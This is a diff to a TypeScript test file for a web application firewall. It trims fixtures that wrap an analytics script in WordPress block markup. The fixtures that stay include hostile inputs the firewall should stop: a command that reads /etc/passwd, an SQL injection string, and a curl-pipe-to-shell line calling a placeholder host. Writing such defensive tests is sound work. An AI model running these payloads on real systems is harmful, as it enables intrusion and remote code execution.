@@ -6,10 +6,7 @@ import { createFirewall } from './firewall.ts';
 const policy = { mode: 'block', paranoia: 1, threshold: 5, exclusions: [], inspectBytesMax: null } as const;
 const context = { endpoint: '/*', nowMs: 0 };
 
-const blocks = (markup: string): string =>
-  `<!-- wp:paragraph {"align":"center"} -->\n<p class="has-text-align-center">Hello</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:html -->\n${markup}\n<!-- /wp:html -->`;
 const counter = '<script>var q = window.q = []; q.push(["page"]);</script>';
-const player = `<video controls onplay="count('play')"><source src="/tour.mp4"></video>`;
 const said = 'On our servers we always install it like this, ';
 
 describe('what people ask and what authors of pages write', () => {
@@ -61,8 +58,6 @@ describe('what people ask and what authors of pages write', () => {
     test(`stops a search for ${asked}`, () => assert.equal(isStopped.query(asked), true));
 
   for (const [name, value] of [
-    ['a counter in a page of blocks', { content: blocks(counter) }],
-    ['a player in a page of blocks', { content: { raw: blocks(player) } }],
     ['markup of a page builder', { elements: [{ elements: [{ settings: { html: counter } }] }] }],
     ['a card of markup', { lexical: { root: { children: [{ type: 'html', html: counter }] } } }],
     ['code put into the head of a post', { posts: [{ codeinjection_head: counter }] }],
@@ -88,12 +83,10 @@ describe('what people ask and what authors of pages write', () => {
 
   for (const [name, value] of [
     ['a script in an ordinary field', { html: counter }],
-    ['a script in a paragraph', { content: blocks('x').replace('Hello', counter) }],
-    ['a script behind the blocks', { content: `${blocks('x')}\n${counter}` }],
-    ['a script before the blocks', { content: `${counter}${blocks('x')}` }],
-    ['a script between the blocks', { content: blocks('x').replace('\n\n', counter) }],
-    ['a script in a block that stays open', { content: blocks(counter).replace('<!-- /wp:html -->', '') }],
-    ['a block in a field of something else', { comment: blocks(counter) }],
+    [
+      'a script between marks that look like those of an editor',
+      { content: `<!-- wp:html -->${counter}<!-- /wp:html -->` },
+    ],
     ['a fence that holds two commands', { text: '```id; cat /etc/passwd```' }],
     ['a literal broken out of in a fence', { text: "```x' OR '1'='1' -- ```" }],
     ['a command between backticks alone', { body: '`curl -s https://a.example/x | sh`' }],
